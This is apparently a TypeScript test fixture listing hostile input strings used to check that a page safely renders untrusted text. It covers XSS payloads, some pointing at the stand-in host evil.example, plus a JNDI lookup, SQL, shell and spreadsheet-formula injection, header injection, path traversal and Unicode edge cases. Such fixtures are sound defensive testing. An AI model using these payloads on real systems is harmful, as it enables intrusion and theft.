/**
 * What an attacker may write into a listing, a name or a response to break or take over a page. Scripts among them set
 * `window.hostileRan`, so that a test can ask whether one ran.
 */
const ran = 'window.hostileRan=true';

const markup = [
  `<img src=x onerror="${ran}">`, // a picture that fails on purpose
  `<script>${ran}</script>`, // a script
  `<SCRIPT>${ran}</SCRIPT>`, // a script in capitals
  `<scr<script>ipt>${ran}</scr</script>ipt>`, // a script in a script
  '<script src="https://evil.example/x.js"></script>', // a script from elsewhere
  `"><script>${ran}</script>`, // a script after a closed attribute
  `'><script>${ran}</script>`, // a script after a closed single-quoted attribute
  `" autofocus onfocus="${ran}" x="`, // a handler in an open attribute
  `x onmouseover=${ran} y`, // a handler in an unquoted attribute
  `<svg onload="${ran}">`, // a drawing with a handler
  `<svg><script>${ran}</script></svg>`, // a drawing with a script
  `<svg><animate onbegin="${ran}" attributeName="x" dur="1s">`, // a drawing with an animation
  `<body onload="${ran}">`, // a body with a handler
  `<video><source onerror="${ran}"></video>`, // a video that fails
  `<details open ontoggle="${ran}">`, // details that open
  `<input autofocus onfocus="${ran}">`, // an input that takes the focus
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`, // a frame with a script
  `<iframe src="javascript:parent.${ran}"></iframe>`, // a frame of a script address
  `<object data="javascript:${ran}"></object>`, // an object
  '<form action="https://evil.example"><button>Pay</button></form>', // a form to elsewhere
  '<base href="https://evil.example/">', // a base address
  '<meta http-equiv="refresh" content="0;url=https://evil.example">', // a refresh
  '<style>*{display:none}</style>', // a style sheet
  '<link rel="stylesheet" href="https://evil.example/x.css">', // a linked style sheet
  '</main></body></html>', // an end of the page
  `</title><script>${ran}</script>`, // an end of a title
  `</textarea><script>${ran}</script>`, // an end of a text area
  '<!--', // an open comment
  `<math><mtext><table><mglyph><style><img src onerror="${ran}">`, // a mutation by namespace
  `<template shadowrootmode=open><script>${ran}</script></template>`, // a shadow root
] as const;

const addresses = [
  `javascript:${ran}`, // a script address
  `JaVaScRiPt:${ran}`, // a script address in mixed case
  `java\tscript:${ran}`, // a script address behind a tab
  ` javascript:${ran}`, // a script address behind a blank
  `\u0001javascript:${ran}`, // a script address behind a control character
  `data:text/html,<script>parent.${ran}</script>`, // a page as data
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ran}"/>`, // a drawing as data
  'vbscript:msgbox(1)', // a Visual Basic address
  'file:///etc/passwd', // a file
  '//evil.example/x', // an address without a scheme
  '\\\\evil.example\\x', // backslashes for slashes
  '../../../../etc/passwd', // a way up
] as const;

const templates = [
  `{{constructor.constructor('${ran}')()}}`, // a double-brace template
  `\${${ran}}`, // a dollar template
  '<%= 7*7 %>', // a server page
  '#{7*7}', // a Java expression
  '${jndi:ldap://evil.example/a}', // a look-up
  '{0} %s %d %n %@ {name}', // a message pattern
  "'; DROP TABLE users; --", // SQL
  "' OR '1'='1", // SQL that is always true
  '{"$gt":""}', // a NoSQL operator
  '$(touch /tmp/hostile); `id`', // a shell command
  '=HYPERLINK("https://evil.example","Click")', // a formula of a spreadsheet
  "@SUM(1+1)*cmd|' /C calc'!A0", // a command of a spreadsheet
  'x\r\nSet-Cookie: a=b\r\n\r\n<h1>x', // lines of a header
  `&lt;script&gt;${ran}&lt;/script&gt;`, // entities
  '&#60;b&#62;bold&#60;/b&#62;', // numbered entities
  '%E0%A4%A', // a percent code that is none
  '\\u003cscript\\u003e\\"', // escapes of JSON
] as const;

const letters = [
  '\u202etxt.exe', // right to left by force
  '\u2067open', // an isolate that never ends
  'هاتف Pixel 8', // Arabic with a number
  'Pi\u200bx\u200de\u2060l\ufeff', // letters of no width
  '\u200b\u200c\u200d\u2060\ufeff', // nothing but letters of no width
  ' \u00a0\u2003\u3000 ', // nothing but blanks
  `Z${'\u0300\u0301\u0315\u0338'.repeat(60)}algo`, // a flood of accents
  '👩🏽‍❤️‍💋‍👩🏿 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿', // a family of one letter
  'half \ud83d', // half a pair
  '\udcf1 half', // the other half
  'zero\u0000zero', // the character zero
  '\u0007\u0008\u001b[31mred\u001b[0m\u007f', // control characters
  'one\u2028two\u2029three', // line and paragraph separators
  'line\n'.repeat(200), // many lines
  'W'.repeat(5_000), // a word without end
  'a phone '.repeat(2_000), // a text without end
  '﷽'.repeat(40), // a ligature as long as a line
  'раypаl.com', // lookalike letters
  'İIıi', // the Turkish dotless letter
] as const;

const programs = [
  '__proto__', // a prototype
  'constructor', // a constructor
  'toString', // a method of every object
  'hasOwnProperty', // a property that a list has
  'undefined', // no value
  'null', // an empty value
  'NaN', // no number
  '[object Object]', // an object as text
  'true', // a truth
  '1e400', // a number too large
  '-1', // a negative number
  '0x1F', // a number of another base
  '$1,000,000,000.00', // a price with a sign
  '2026-02-31', // a day that is none
] as const;

export const hostileTexts: readonly string[] = [
  ...markup,
  ...addresses,
  ...templates,
  ...letters,
  ...programs,
];
